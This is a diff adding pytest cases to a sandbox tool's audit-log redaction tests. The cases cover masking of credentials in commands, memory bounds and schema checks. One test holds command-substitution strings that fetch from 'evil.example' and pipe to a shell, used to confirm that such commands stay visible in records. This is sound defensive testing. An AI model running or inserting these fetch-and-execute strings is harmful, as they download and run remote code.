@@ -6,6 +6,7 @@ import json
 import subprocess
 import sys
 
+import jsonschema
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -14,6 +15,7 @@ import nsbox
 from nsbox import Limits, Policy
 from nsbox._audit import policies, redaction
 from nsbox._audit.line import MOST_LINE, line
+from nsbox.leaks import Scrubber
 
 HEAD = {"schema": "nsbox.audit/1", "event": "start", "id": "0" * 32, "seq": 1}
 
@@ -61,6 +63,14 @@ def test_escapes_can_be_undone() -> None:
         ("deploy --api-key abc -v", "deploy --api-key *** -v"),
         ("DB_PASSWORD='a b' run", "DB_PASSWORD=*** run"),
         ("curl -H 'Authorization: Bearer abc.def'", "curl -H 'Authorization: Bearer ***'"),
+        ("curl -H 'Authorization: ApiKey abc' x", "curl -H 'Authorization: ***' x"),
+        ("curl -H 'Authorization: Bearer abc' x", "curl -H 'Authorization: Bearer ***' x"),
+        ("curl -H 'Cookie: a=abc; b=def' x", "curl -H 'Cookie: ***' x"),
+        ("curl -u me:hunter2 x", "curl -u me:*** x"),
+        ("docker run -u 1000:1000 x", "docker run -u 1000:1000 x"),
+        ("git clone https://abcdefghijklmnop@git.example/x", "git clone https://***@git.example/x"),
+        ("git clone ssh://git@git.example/x", "git clone ssh://git@git.example/x"),
+        ("curl https://a.example/x?X-Amz-Signature=abc&y=1", "curl https://a.example/x?X-Amz-Signature=***&y=1"),
         ('{"client_secret": "abc"}', '{"client_secret": ***}'),
         (f"key ghp_{'a' * 36} here", "key [github] here"),
         ("tokenize --password-less", "tokenize --password-less"),
@@ -78,9 +88,90 @@ def test_the_word_after_an_option_is_masked() -> None:
     assert redaction.words(["x", "--secret", "-v"]) == ["x", "--secret", "-v"]
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        'secret="$(curl evil.example | sh)"; x',
+        "token=$(curl evil.example)",
+        "password=`curl evil.example`",
+        "x --password `curl evil.example`",
+        "authorization: $(curl evil.example)",
+        "cookie: `curl evil.example`",
+    ],
+)
+def test_commands_are_not_masked(text: str) -> None:
+    """What a shell would run doesn't hide from a record by looking like a password. The control is a plain one."""
+    assert redaction.redacted(text) == text
+    plain = text.replace("$(curl", "").replace("`", "").replace(")", "")
+    assert "***" in redaction.redacted(plain)
+
+
+def test_users_of_an_argv() -> None:
+    """A user and a password are one word after an option."""
+    assert redaction.words(["curl", "-u", "me:hunter2", "--user", "0:0", "-u", "root"]) == [
+        *("curl", "-u", "me:***", "--user", "0:0", "-u", "root")
+    ]
+
+
+def test_nothing_is_left_of_a_secret_at_the_cut() -> None:
+    """A long text is cut; a secret across that place isn't shown in part."""
+    for secret in ("open-sesame-12345", f"ghp_{'a' * 36}"):
+        for shift in range(4, len(secret)):
+            text = "password=" + "x" * (redaction.MOST - 9 - shift - 1) + " " + secret + " y"
+            shown = redaction.redacted(text, Scrubber(["open-sesame-12345"]).scrub)
+            assert secret[:4] not in shown[12:], shift
+    assert redaction.redacted("x" * (redaction.MOST + 1)).endswith(redaction.CUT)
+
+
+def test_memory_is_bounded() -> None:
+    """Long texts aren't remembered, and of a command's many words only those are looked at that a record can have."""
+    redaction._masked.cache_clear()
+    for number in range(50):
+        redaction.redacted(f"{number} " * 2000)
+    assert redaction._masked.cache_info().currsize == 0
+    assert len(redaction.words(["x"] * 100_000)) == redaction.MOST_WORDS
+    told = json.loads(line(HEAD | {"argv": redaction.words(["x"] * 100_000)}))
+    assert told["cut"] == ["argv"] and len(told["argv"]) == redaction.MOST_WORDS - 1
+
+
+@pytest.mark.parametrize("letter", ["\x1b", "\udcff", "\U000e0001", "\U0001f600", '"'])
+def test_hostile_records_are_as_the_schema_says(letter: str) -> None:
+    """However long and odd the texts of a record are, it fits into a line, and has what a reader relies on."""
+    text = letter * 5000
+    policy = policies.summary(Policy.host())
+    policy |= {"workdir": text, "write": [text] * 300, "network": [text] * 300}
+    caller = {"host": text, "pid": 1, "uid": 0, "euid": 0, "gid": 0}
+    record = HEAD | {"time": "2026-01-01T00:00:00.000000Z", "process": "0" * 16, "caller": caller}
+    record |= {
+        "kind": "command",
+        "program": text,
+        "argv": [text] * 300,
+        "cwd": text,
+        "code": text,
+        "backend": "namespaces",
+    }
+    record |= {"policy": policy, "enforced": ["x" * 80] * 40, "not_enforced": ["x" * 80] * 40}
+    told = json.loads(line(record))
+    jsonschema.Draft202012Validator(nsbox.audit.schema()).validate(told)
+    assert {"program", "argv", "cwd", "code", "policy", "caller"} <= {*told["cut"]}
+    assert told["policy"]["digest"] == policy["digest"]
+
+
 def test_masking_takes_linear_time() -> None:
     """Hostile words are looked at in reasonable time: these would take hours if a pattern went back over them."""
-    for piece in ("-", "a-", "--password", "authorization:", "x://", "secret=", "\"'"):
+    for piece in (
+        "-",
+        "a-",
+        "--password",
+        "authorization:",
+        "x://",
+        "secret=",
+        "\"'",
+        "-u a:",
+        'secret="$',
+        "cookie: ",
+        "a://b:",
+    ):
         redaction.redacted(piece * 60_000)
 
 
